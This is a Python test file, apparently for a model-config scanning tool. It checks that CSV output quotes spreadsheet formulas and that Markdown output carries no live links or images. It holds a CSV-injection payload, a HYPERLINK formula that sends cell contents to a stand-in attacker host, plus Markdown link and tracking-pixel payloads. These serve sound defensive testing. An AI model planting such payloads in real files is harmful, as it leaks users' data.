"""Text a config (or the Hub) writes cannot be turned against the reader of an output: a CSV cell a
spreadsheet would run as a formula is quoted; Markdown keeps no live link or image."""

from __future__ import annotations

import csv
import io
import json

import pytest
from click.testing import CliRunner

from hfkv.commands.cli import main
from hfkv.text import markdown_cell, spreadsheet_cell

HOSTILE = '=HYPERLINK("http://attacker.example/?"&A1,"click")'


@pytest.mark.parametrize("cell", [HOSTILE, "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"])
def test_formula_cells_are_quoted(cell):
    assert spreadsheet_cell(cell).startswith("'")


@pytest.mark.parametrize("cell", ["llama", "org/name", "1e3", "qwen3_next"])
def test_plain_cells_are_left_alone(cell):
    assert spreadsheet_cell(cell) == cell


def test_scan_csv_of_a_hostile_config_is_inert(tmp_path):
    folder = tmp_path / "evil"
    folder.mkdir()
    (folder / "config.json").write_text(json.dumps({
        "model_type": HOSTILE, "hidden_size": 256, "num_attention_heads": 4, "num_key_value_heads": 4,
        "num_hidden_layers": 2, "max_position_embeddings": 4096,
    }))
    listing = tmp_path / "list.txt"
    listing.write_text(f"{folder}\n")
    result = CliRunner().invoke(main, ["scan", str(listing), "--format", "csv", "--context", "4k"])
    (row,) = list(csv.DictReader(io.StringIO(result.output)))
    assert row["model_type"] == "'" + HOSTILE
    assert all(not v.startswith(("=", "+", "@")) for v in row.values() if v)


@pytest.mark.parametrize("text", [
    "[click](http://attacker.example)",
    "![](http://attacker.example/pixel.png)",
    "\\[x](http://attacker.example)",
    "[x]: http://attacker.example",
    "<a href='http://attacker.example'>x</a>",
])
def test_markdown_has_no_live_link_or_image(text):
    from markdown_it import MarkdownIt  # rich's Markdown parser: a CommonMark renderer

    html = MarkdownIt("commonmark").render(f"| cell |\n|---|\n| {markdown_cell(text)} |\n")
    assert "<a " not in html and "<img" not in html and "attacker.example" in html
